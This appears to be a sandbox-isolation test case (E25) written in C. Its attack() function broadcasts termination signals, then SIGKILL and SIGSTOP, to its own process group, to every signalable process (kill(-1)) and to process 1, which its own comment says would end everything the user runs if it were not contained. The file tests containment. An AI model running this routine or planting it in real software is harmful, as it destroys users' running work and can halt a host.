// id: E25
// does: ends its own process group and everybody whom it can signal, and goes on to answer
// expect: WA
// control: none
// why: with anything left out this would end what the machine's user runs; E25-watcher.c shows what it would reach
// Of signals that it does not take itself: what is killed is its watcher, or nobody.
ATTACK int attack(void) {
    // Whoever reaches its watcher reaches the host: that is enough, and nobody there is to be harmed.
    if (getppid() > 0 && kill(getppid(), 0) == 0) return 1;
    const int signals[] = {SIGTERM, SIGHUP, SIGINT, SIGUSR1, SIGPIPE};
    for (int i = 0; i < 5; i++) {
        signal(signals[i], SIG_IGN);
        kill(0, signals[i]);
        kill(-1, signals[i]);
        kill(1, signals[i]);
    }
    // These none can ignore; process 1 of a namespace takes none from within, and -1 spares the sender.
    kill(1, SIGKILL);
    kill(1, SIGSTOP);
    if (kill(-1, SIGKILL) != 0) note("kill: %s", strerror(errno));
    usleep(20000);
    return 0;
}
